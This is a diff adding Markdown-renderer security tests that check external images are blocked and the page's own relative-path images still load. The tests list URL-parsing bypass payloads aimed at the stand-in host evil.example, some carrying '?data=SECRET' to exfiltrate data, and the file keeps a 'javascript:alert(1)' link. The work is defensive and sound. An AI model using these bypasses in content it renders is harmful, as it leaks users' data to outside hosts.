@@ -95,6 +95,43 @@ describe('Markdown security', () => {
       .toHaveAttribute('referrerpolicy', 'no-referrer');
   });
 
+  it('loads no image whose URL names a host, even one a page on https: would read as a path', async () => {
+    // On http:, file:, in Electron or a webview, the browser reads `https:host/x` as that host.
+    const bypasses = [
+      'https:evil.example/p.png?data=SECRET',
+      'https:/evil.example/p.png?data=SECRET',
+      'HTTPS:evil.example/p.png',
+      'http:evil.example/p.png',
+      '&#x20;https:evil.example/p.png',
+      'ht&#x09;tps:evil.example/p.png',
+      '<\thttps:evil.example/p.png>',
+      // Markdown unescapes `\\` and `\/`: these reach the URL as `\\host`, `/\host` and `\/host`.
+      '\\\\\\\\evil.example/p.png',
+      '/\\evil.example/p.png',
+      '\\\\/evil.example/p.png',
+      '&#x2F;&#x2F;evil.example/p.png',
+      '&#10;//evil.example/p.png',
+    ];
+    const text = bypasses.map((url, index) => `![leak ${index}](${url})`).join('\n\n');
+    const screen = await render(<Markdown text={text} />);
+    expect(screen.container.querySelectorAll('img')).toHaveLength(0);
+    const links = screen.container.querySelectorAll('[data-slot="markdown-image-link"]');
+    expect([...links].map((link) => link.textContent)).toEqual(bypasses.map((_, index) => `leak ${index}`));
+    for (const link of links) {
+      expect(link.getAttribute('title')).toBe('Image from evil.example, not loaded');
+    }
+  });
+
+  it("loads the page's own images, at paths relative to it", async () => {
+    const paths = ['/img.png', 'img.png', './a.png', '../up/b.png', 'dir/c.png?v=2', '#top'];
+    const text = paths.map((path, index) => `![own ${index}](${path})`).join('\n\n');
+    const screen = await render(<Markdown text={text} />);
+    expect([...screen.container.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(
+      paths,
+    );
+    expect(screen.container.querySelectorAll('[data-slot="markdown-image-link"]')).toHaveLength(0);
+  });
+
   it('keeps the text of a neutralised link, unlinked', async () => {
     const screen = await render(<Markdown text="[click me](javascript:alert(1))" />);
     await expect.element(screen.getByText('click me')).toBeVisible();
